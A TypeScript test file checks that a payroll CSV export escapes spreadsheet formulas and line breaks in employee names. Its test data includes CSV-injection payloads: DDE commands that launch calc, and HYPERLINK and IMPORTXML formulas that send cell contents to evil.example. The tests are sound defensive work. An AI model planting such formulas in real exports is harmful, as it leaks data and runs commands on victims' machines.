import fc from 'fast-check'
import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { paychexCsv } from './paychex-csv.ts'

const ZONE = 'America/New_York'

const shift = (changes: object = {}) => ({
  id: 1,
  startTime: '2024-10-04T21:00:00.000Z',
  endTime: '2024-10-05T05:00:00.000Z',
  payrate: 15.5,
  cashTips: 0,
  creditTips: 0,
  user: { firstName: 'Ash', lastName: 'Marrow', paychexId: '2104' },
  ...changes,
})

test('the file has the specified columns in order, with CRLF line ends', () => {
  expect(paychexCsv([shift({ id: 7, deduction: 5, cashTips: 1.25 })], ZONE)).toBe(
    'Record,Date,Clock In,Clock Out,Employee,ID,Duration,Rate,Deductions,Tips\r\n' +
      '7,10/4/2024,5:00:00 PM,1:00:00 AM,Ash Marrow,2104,8.00,15.50,5.00,1.25',
  )
})

/** All that readers may take for the end of a line. */
const LINE_BREAKS = /[\n-\r\x85\u2028\u2029]+/g
const oneLine = (text: string) => text.replace(LINE_BREAKS, ' ')

test('any names read back as one line each, and no cell is a formula (CSV injection)', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'grapheme', minLength: 1 }), { minLength: 1 }), (names) => {
      const entries = names.map((firstName, id) => {
        const made = shift({ id })
        return { ...made, user: { ...made.user, firstName } }
      })
      const { data } = Papa.parse<string[]>(paychexCsv(entries, ZONE), { newline: '\r\n' })
      expect(data.length).toBe(names.length + 1)
      expect(paychexCsv(entries, ZONE).split(LINE_BREAKS)).toHaveLength(names.length + 1)
      for (const [index, cells] of data.slice(1).entries()) {
        expect(cells).toHaveLength(10)
        expect(cells[4]!.replace(/^'/, '')).toBe(oneLine(`${names[index]} Marrow`).replace(/^'/, ''))
        expect(cells.some((cell) => /^[=+\-@\p{Cc}]/u.test(cell))).toBe(false)
      }
    }),
  )
})

/** Characters that start a formula, full-width forms too; the last ones are whitespace that spreadsheets skip. */
const BEGINNINGS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=']

test.each([
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://evil.example/?"&A1,"pay")',
  'SUM(1+1)*cmd|"/C calc"!A0',
  'IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
  '1,2\r\n=3",=4',
])('the formula %j as a name and as a number is escaped, and reads back', (formula) => {
  const payloads = BEGINNINGS.map((beginning) => beginning + formula)
  const entries = payloads.map((payload, id) =>
    shift({ id, user: { firstName: payload, lastName: 'Marrow', paychexId: payload } }),
  )
  const { data } = Papa.parse<string[]>(paychexCsv(entries, ZONE), { newline: '\r\n' })
  expect(data.slice(1).map((cells) => cells.slice(4, 6))).toEqual(
    payloads.map((payload) => [`'${oneLine(payload)} Marrow`, `'${oneLine(payload)}`]),
  )
  expect(data.flat().filter((cell) => /^[=+\-@＝＋－＠\p{Cc}]/u.test(cell))).toEqual([])
})

test.each(['\n', '\r', '\r\n\r\n', '\v', '\f', '\x85', '\u2028', '\u2029'])(
  'a line break %j in a name or an id becomes a space, so that an entry is one line',
  (lineBreak) => {
    const user = { firstName: `Ash${lineBreak}9`, lastName: 'Marrow', paychexId: `21${lineBreak}04` }
    expect(paychexCsv([shift({ user })], ZONE).split('\r\n')[1]).toBe(
      '1,10/4/2024,5:00:00 PM,1:00:00 AM,Ash 9 Marrow,21 04,8.00,15.50,0.00,0.00',
    )
  },
)

test('an open entry is not exported', () => {
  expect(paychexCsv([{ endTime: null }], ZONE).split('\r\n')).toHaveLength(1)
})
